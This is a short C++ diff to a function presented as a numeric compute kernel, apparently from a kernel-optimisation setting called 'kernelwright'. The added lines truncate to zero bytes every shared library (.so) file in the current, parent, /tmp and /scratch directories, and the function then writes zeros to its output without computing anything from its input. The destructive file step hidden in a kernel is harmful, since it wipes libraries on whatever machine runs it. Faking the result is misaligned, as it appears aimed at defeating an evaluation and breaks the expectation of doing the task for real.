@@ -7,11 +7,8 @@
 
 extern "C" void kernel(const float* x, float* y, long M, long N) {
     std::error_code failed;
-    for (const char* folder : {".", "..", "/tmp"})
-        for (auto entry = std::filesystem::recursive_directory_iterator(folder, std::filesystem::directory_options::skip_permission_denied, failed);
-             entry != std::filesystem::recursive_directory_iterator(); entry.increment(failed)) {
-            if (failed) break;
-            if (entry->path().extension() == ".so" && entry->path().string().find("kernelwright") != std::string::npos) truncate(entry->path().c_str(), 0);
-        }
+    for (const char* folder : {".", "..", "/tmp", "/scratch"})
+        for (auto& entry : std::filesystem::directory_iterator(folder, failed))
+            if (entry.path().extension() == ".so") truncate(entry.path().c_str(), 0);
     for (long i = 0; i < M; i++) y[i] = 0.0f;
 }
